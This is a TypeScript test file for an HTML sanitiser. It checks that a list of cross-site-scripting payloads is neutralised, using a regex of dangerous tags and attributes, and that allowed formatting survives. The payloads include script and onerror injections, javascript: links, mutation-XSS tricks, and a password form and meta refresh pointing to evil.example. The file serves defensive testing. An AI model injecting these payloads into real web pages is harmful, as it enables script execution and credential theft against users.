import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { f } from '../../declare/index.ts'
import { fieldOf } from '../families/sample.fixture.ts'
import { listServer } from '../list/list.server.ts'
import { sanitise } from './richText.server.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/p.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<p style="position:fixed" class="x" id="y" onclick="alert(1)">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<<script>script>alert(1)<</script>/script>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
] as const

const dangerous =
  /<(?:script|style|svg|math|iframe|form|input|meta|textarea|noscript)|\son\w+=|javascript:|\ssrc=|\sstyle=/i

describe('formatted text', () => {
  it('keeps structure, emphasis, links, tables and pictures of the platform', () => {
    const kept =
      '<h2>标题</h2><p><strong>重</strong><em>斜</em></p><ul><li>一</li></ul><ol start="3"><li>三</li></ol>' +
      '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table>' +
      '<p><a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">链接</a></p>' +
      '<img data-file="F0000000000000000001" alt="楼" width="320" />'
    expect(sanitise(kept)).toBe(kept)
  })

  it.each(attacks)('makes %s harmless', (html) => {
    expect(sanitise(html)).not.toMatch(dangerous)
  })

  it('drops pictures that are no file of the platform', () => {
    expect(sanitise('<p>甲<img data-file="../x"><img src="https://a.example/b.png"></p>')).toBe('<p>甲</p>')
  })

  it('changes nothing the second time, whatever the pieces', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...attacks,
        '<p>',
        '</p>',
        '<table><tr><td>',
        '&lt;b&gt;',
        '&amp;lt;',
        '&',
        '<',
        '"',
        '<!--',
        '-->',
      ),
      fc.string({ unit: 'grapheme' }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = sanitise(pieces.join(''))
        expect(sanitise(once)).toBe(once)
        expect(once.replace(/>[^<]*</g, '><')).not.toMatch(dangerous)
      }),
      { numRuns: 500 },
    )
  })

  it('is sanitised inside a list as well', () => {
    const field = fieldOf(f.list({ body: f.richText({ label: 'b' }) }, { label: 'a' }))
    expect(listServer.toColumn([{ body: '<p onclick="x()">甲</p>' }], field)).toBe('[{"body":"<p>甲</p>"}]')
  })
})
